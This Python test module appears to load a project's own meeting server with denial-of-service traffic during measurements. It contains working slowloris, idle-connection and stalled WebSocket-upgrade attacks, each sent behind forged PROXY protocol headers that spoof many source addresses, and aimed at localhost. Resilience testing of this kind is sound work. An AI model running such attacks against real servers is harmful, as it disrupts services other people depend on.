"""Those who want a server to be busy with them: a process of its own, so that it does not disturb who measures.

    python -m tests.servers.attackers <kind> <port> <connections> <addresses>

They come from 127.0.0.2 and claim, by a PROXY header, to be so many addresses; who is cut dials again.
"""

import asyncio
import contextlib
import random
import sys
from collections.abc import Awaitable, Callable
from ipaddress import ip_address
from typing import NoReturn

SOURCE = "127.0.0.2"
SETTINGS = {"MEET_TRUSTED_PROXIES": SOURCE, "MEET_PROXY_PROTOCOL": "true"}
"""The server's, that believes them."""
DRIP_S = 1.0
AGAIN_S = 2.5

PROXY = b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c"

UPGRADE = (
    "GET /ws/v1/rooms/anything HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    "Sec-WebSocket-Protocol: meet.v1.json\r\n\r\n"
)
HEAD = "GET / HTTP/1.1\r\nHost: x\r\n" + "".join(f"X-{n}: aaaaaaaaaa\r\n" for n in range(90))

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


async def slowloris(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A request's head that comes a byte at a time."""
    for character in HEAD:
        writer.write(character.encode())
        await writer.drain()
        await asyncio.sleep(DRIP_S)


async def silent(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A connection, and nothing."""
    await reader.read()


async def sockets(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A socket that never says hello."""
    writer.write(UPGRADE.encode())
    await reader.read()


ATTACKS: dict[str, Attack] = {attack.__name__: attack for attack in (slowloris, silent, sockets)}


async def keep_on(attack: Attack, port: int, address: str) -> NoReturn:
    while True:
        with contextlib.suppress(OSError, EOFError):
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(SOURCE, 0))
            try:
                writer.write(PROXY + ip_address(address).packed + bytes(8))
                await attack(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(random.uniform(0, 2 * AGAIN_S))


async def main(kind: str, port: int, connections: int, addresses: int) -> None:
    async with asyncio.TaskGroup() as group:
        for number in range(connections):
            block, last = divmod(number % addresses, 250)
            group.create_task(keep_on(ATTACKS[kind], port, f"198.{18 + block // 250}.{block % 250}.{last + 1}"))
            if number % 50 == 0:
                await asyncio.sleep(0.01)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], *map(int, sys.argv[2:])))
